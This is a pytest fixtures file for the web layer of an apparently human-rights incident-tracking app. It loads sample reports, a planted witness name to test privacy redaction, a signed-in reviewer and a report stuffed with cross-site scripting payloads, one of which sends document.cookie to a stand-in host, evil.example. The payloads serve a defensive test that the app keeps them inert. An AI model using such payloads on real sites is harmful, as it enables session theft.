"""Web fixtures: the app over a store holding the sample reports, a reviewer, and a signed-in client."""

from __future__ import annotations

import datetime as dt
import re
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import SAMPLES

warnings.filterwarnings("ignore", message=".*httpx.*", category=DeprecationWarning)

REVIEWER, PASSWORD = "rana", "correct horse battery"

#: A witness named in the body but in no evidence span: must never reach the public.
PLANTED_NAME = "Khaled Yousef Al-Hamwi"
PLANTED = f"""Douma: civilians killed in air strike

March 13, 2018

An air strike by Syrian government warplanes hit a market in the town of Douma in Rif Dimashq on Monday,
killing 12 civilians, local activists said.

A witness, {PLANTED_NAME}, who lives beside the market, told our correspondent that he carried two
children out of the rubble and that his brother is still missing.
"""

#: Report text full of HTML and script: must stay inert everywhere.
HOSTILE = """<script>alert('pwned')</script> Idlib: <img src=x onerror=alert(1)> strike

March 14, 2018

An air strike by Russian warplanes hit the town of Maarat al-Numan in Idlib on Tuesday, killing 7 civilians
<script>document.location='http://evil.example/'+document.cookie</script>, activists said. <b onmouseover=alert(2)>x</b>
"""


def ingest_text(store: Any, cfg: Any, tmp_path: Path, name: str, text: str, published: str, source: str) -> None:
    from harmwatch.pipeline import ingest_paths

    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    summary = ingest_paths(store, cfg, [path], published=dt.date.fromisoformat(published), source=source)
    assert not summary.failed, summary.failed


@pytest.fixture
def loaded(store: Any, cfg: Any, tmp_path: Path) -> Any:
    """The store with the samples, a planted-name report, a hostile report and one reviewer."""
    from harmwatch.pipeline import ingest_paths
    from harmwatch.store import queries as Q
    from harmwatch.web.auth import hash_password

    ingest_paths(store, cfg, [SAMPLES])
    ingest_text(store, cfg, tmp_path, "douma.txt", PLANTED, "2018-03-13", "Douma Local Council")
    ingest_text(store, cfg, tmp_path, "hostile.txt", HOSTILE, "2018-03-14", "<b>Evil</b> Press")
    Q.add_user(store, REVIEWER, "reviewer", hash_password(PASSWORD))
    return store


@pytest.fixture
def client(loaded: Any, cfg: Any) -> Iterator[Any]:
    from fastapi.testclient import TestClient

    from harmwatch.web.app import create_app

    with TestClient(create_app(cfg, loaded, rollup_check_every=0)) as c:
        yield c


def csrf_of(html: str) -> str:
    m = re.search(r'name="csrf" value="([^"]+)"', html)
    assert m, "page has no CSRF field"
    return m.group(1)


def sign_in(client: Any, name: str = REVIEWER, password: str = PASSWORD) -> None:
    token = csrf_of(client.get("/login").text)
    r = client.post("/login", data={"name": name, "password": password, "csrf": token, "next": "/incidents"},
                    follow_redirects=False)
    assert r.status_code == 303, r.text


@pytest.fixture
def reviewer(client: Any) -> Any:
    """A client signed in as the reviewer."""
    sign_in(client)
    return client
